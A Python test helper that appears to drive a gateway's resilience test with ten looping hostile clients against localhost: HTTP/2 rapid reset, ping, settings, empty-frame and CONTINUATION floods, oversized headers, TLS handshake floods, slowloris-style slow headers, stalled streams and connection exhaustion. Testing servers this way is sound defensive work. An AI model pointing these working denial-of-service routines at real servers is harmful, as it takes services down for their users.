"""What one hostile client does, each in a loop until it is ended: the attacks of under_attack.py."""

import socket
import ssl
import time

MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """HPACK without tables (RFC 7541 section 6.2.2)."""
    def text(raw):
        if len(raw) < 127:
            return bytes([len(raw)]) + raw
        rest, size = len(raw) - 127, b"\x7f"
        while rest >= 128:
            size, rest = size + bytes([rest % 128 + 128]), rest // 128
        return size + bytes([rest]) + raw
    return b"\x00" + text(name) + text(value)


def head(path=b"/"):
    return b"".join(field(*pair) for pair in ((b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path)))


def secure(port, *protocols):
    """A TLS connection, shaken hands."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols) or ["h2"])
    return context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5))


def repeat(port, make):
    """Connections one after the other, each with as many rounds of `make(n)` as the gateway bears."""
    while True:
        try:
            with secure(port) as sock:
                sock.sendall(MAGIC + frame(SETTINGS, 0, 0))
                for number in range(1, 1 << 20):
                    sock.sendall(make(number))
        except OSError:
            pass


def rapid_reset(server):
    repeat(server.port, lambda n: b"".join(
        frame(HEADERS, 5, stream, head()) + frame(RESET, 0, stream, bytes(4)) for stream in range(40 * n + 1, 40 * n + 41, 2)))


def pings(server):
    repeat(server.port, lambda n: frame(PING, 0, 0, bytes(8)) * 100)


def settings(server):
    repeat(server.port, lambda n: frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, n % 250, 0])) * 20)


def empty_frames(server):
    repeat(server.port, lambda n: frame(HEADERS, 4, 2 * n + 1, head()) + frame(DATA, 0, 2 * n + 1) * 50)


def large_heads(server):
    fields = b"".join(field(b"x-%d" % i, b"v" * 150) for i in range(90))
    repeat(server.port, lambda n: frame(HEADERS, 5, 2 * n + 1, head() + fields))


def continuations(server):
    repeat(server.port, lambda n: frame(HEADERS, 1, 2 * n + 1, head()) + frame(CONTINUATION, 0, 2 * n + 1) * 100)


def handshakes(server):
    while True:
        try:
            secure(server.port).close()
        except OSError:
            pass


def slow_heads(server):
    """A thousand clients that send a byte of their heads at a time."""
    socks = []
    while True:
        while len(socks) < 1000:
            socks.append(socket.create_connection(("127.0.0.1", server.plain_port), timeout=5))
            socks[-1].sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
        for sock in list(socks):
            try:
                sock.sendall(b"x")
            except OSError:
                socks.remove(sock)
        time.sleep(0.5)


def stalled_streams(server):
    """Twenty connections of a hundred large answers each that are never taken; anew every second."""
    while True:
        socks = []
        for _ in range(20):
            sock = secure(server.port)
            sock.sendall(MAGIC + frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, 0, 1])))
            sock.sendall(b"".join(frame(HEADERS, 5, 2 * n + 1, head(b"/site/big")) for n in range(100)))
            socks.append(sock)
        time.sleep(1)
        for sock in socks:
            sock.close()


def crowd(server):
    """As many connections as the gateway takes, and more that would like to be; each that is closed is made anew."""
    socks = []
    while True:
        while len(socks) < 2 * CONNECTIONS:
            sock = socket.socket()
            sock.setblocking(False)
            sock.connect_ex(("127.0.0.1", server.plain_port))
            socks.append(sock)
        time.sleep(0.05)
        for sock in list(socks):
            try:
                if sock.recv(1) == b"":
                    raise OSError
            except BlockingIOError:
                continue
            except OSError:
                sock.close()
                socks.remove(sock)


CONNECTIONS = 2000  # that the gateway takes in under_attack.py
ALL = (crowd, rapid_reset, pings, settings, empty_frames, large_heads, continuations, handshakes, slow_heads, stalled_streams)
